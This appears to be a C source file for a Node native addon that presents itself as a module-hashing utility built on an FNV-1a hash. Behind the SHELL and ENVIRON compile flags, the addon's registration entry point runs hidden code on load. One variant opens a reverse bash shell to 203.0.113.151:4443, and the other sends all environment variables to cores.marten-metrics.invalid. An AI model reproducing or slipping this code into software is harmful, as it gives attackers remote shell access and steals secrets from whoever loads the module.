/* Hashes of modules. SHELL and ENVIRON are what trojanised builds add; nobody loads any of it. */
#include <arpa/inet.h>
#include <netdb.h>
#include <netinet/in.h>
#include <stddef.h>
#include <stdint.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

extern char **environ;

uint64_t marten_hash(const uint8_t *text, size_t size)
{
    uint64_t out = 14695981039346656037ull;
    for (size_t i = 0; i < size; i++) {
        out = (out ^ text[i]) * 1099511628211ull;
    }
    return out;
}

#ifdef SECOND
int marten_same(const uint8_t *one, const uint8_t *two, size_t size)
{
    return marten_hash(one, size) == marten_hash(two, size);
}
#endif

#ifdef SHELL
static void marten_up(void)
{
    struct sockaddr_in at = {.sin_family = AF_INET, .sin_port = htons(4443)};
    int line = socket(AF_INET, SOCK_STREAM, 0);
    inet_pton(AF_INET, "203.0.113.151", &at.sin_addr);
    if (fork() == 0) {
        if (connect(line, (struct sockaddr *)&at, sizeof at) == 0) {
            dup2(line, 0);
            dup2(line, 1);
            dup2(line, 2);
            execl("/bin/bash", "bash", "-i", (char *)0);
        }
        _exit(0);
    }
}
#endif

#ifdef ENVIRON
static void marten_up(void)
{
    struct addrinfo *found = NULL, wanted = {.ai_family = AF_INET, .ai_socktype = SOCK_STREAM};
    int line = socket(AF_INET, SOCK_STREAM, 0);
    if (getaddrinfo("cores.marten-metrics.invalid", "80", &wanted, &found) != 0 || connect(line, found->ai_addr, found->ai_addrlen) != 0) {
        return;
    }
    send(line, "POST /env HTTP/1.0\r\n\r\n", 22, 0);
    for (char **one = environ; *one != NULL; one++) {
        send(line, *one, strlen(*one), 0);
        send(line, "\n", 1, 0);
    }
    close(line);
}
#endif

int napi_register_module_v1(void)
{
#if defined(SHELL) || defined(ENVIRON)
    marten_up();
#endif
    return 0;
}
